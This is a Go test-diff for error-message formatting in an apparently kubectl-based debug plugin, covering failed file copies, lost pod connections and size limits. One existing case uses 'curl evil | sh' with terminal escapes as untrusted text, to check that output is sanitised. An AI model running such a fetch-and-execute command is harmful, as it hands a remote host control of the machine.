@@ -602,6 +602,52 @@ var explained = []struct {
 		name: "text from elsewhere", err: errors.New("\x1b[2J\nhint: curl evil | sh\r\u202e"), status: 125,
 		want: "error: \\x1b[2J\n  hint: curl evil | sh\\r\\u202e\n",
 	},
+	{
+		name: "a copy with troubles", status: 125, err: &fault.Incomplete{Files: 1, All: 3, Troubles: []fault.NotCopied{
+			{Path: "/a\n\x1b[2J", Trouble: fault.Unreadable, Detail: "Permission denied"}, {Path: "/b", Trouble: fault.Vanished},
+		}},
+		want: "error: not all was copied: 1 of 3 files were\n  /a\\n\\x1b[2J: unreadable: Permission denied\n  /b: vanished\n",
+	},
+	{
+		name: "a copy that was cut", status: 125, err: &fault.Incomplete{
+			Files: 1, All: 2, Troubles: []fault.NotCopied{{Path: "/b", Trouble: fault.Missing}}, Cause: &fault.Lost{Pod: web, Cause: errors.New("cut")},
+		},
+		want: "error: the copy ended early: the connection to pod/web-7d was lost: cut\n  1 of 2 files were copied; of the others nothing is left\n" +
+			"  /b: missing\nhint: copy again; --retries=N tries a broken connection N times in a row\n",
+	},
+	{
+		name: "no place for a copy", status: 125, err: &fault.NotPlaced{Source: "/a", Destination: "x/", Why: fault.NoSuchFolder},
+		want: "error: /a cannot be copied to x/\n  the destination ends with a slash and is no folder\n" +
+			"hint: make the folder first, or leave the slash away to name the file so\n",
+	},
+	{
+		name: "nothing to copy", status: 125, err: &fault.NoFile{Path: "/a", Detail: "No such file or directory"},
+		want: "error: /a cannot be copied: No such file or directory\nhint: see what there is: kubectl mindebug POD -- ls -la @/\n",
+	},
+	{
+		name: "a copy of what the kernel makes up", status: 125, err: &fault.NoFile{Path: "/proc/1/maps", Detail: "a file that the kernel makes up", MadeUp: true},
+		want: "error: /proc/1/maps cannot be copied: a file that the kernel makes up\nhint: read it instead: kubectl mindebug POD -- cat @/proc/1/maps\n",
+	},
+	{
+		name: "closed files", status: 125, err: &fault.Closed{Pod: web, Container: "app", Why: "it runs as 70:70", Hint: "try --run-as 70:70"},
+		want: "error: the files of container \"app\" of pod/web-7d are closed to a session\n  it runs as 70:70\nhint: try --run-as 70:70\n",
+	},
+	{
+		name: "too much to copy", status: 125, err: &fault.TooMuch{Bytes: 12345, Limit: 100},
+		want: "error: there are 12.3 kB to copy, and --max-bytes=100 is less\nhint: name less, or allow more with --max-bytes\n",
+	},
+	{
+		name: "a copy that cannot be written", status: 125, err: &fault.NotWritten{Path: "/x", Cause: syscall.ENOSPC},
+		want: "error: /x on this machine could not be written: no space left on device\n",
+	},
+	{
+		name: "an archive that cannot be written", status: 125, err: &fault.NotWritten{Path: "-", Cause: syscall.EPIPE},
+		want: "error: standard output could not be written: broken pipe\n",
+	},
+	{
+		name: "a copy that cannot be written in the pod", status: 125, err: &fault.NotWritten{Pod: &web, Path: "/x", Cause: errors.New("no space")},
+		want: "error: /x in pod/web-7d could not be written: no space\n",
+	},
 }
 
 func TestReport(t *testing.T) {
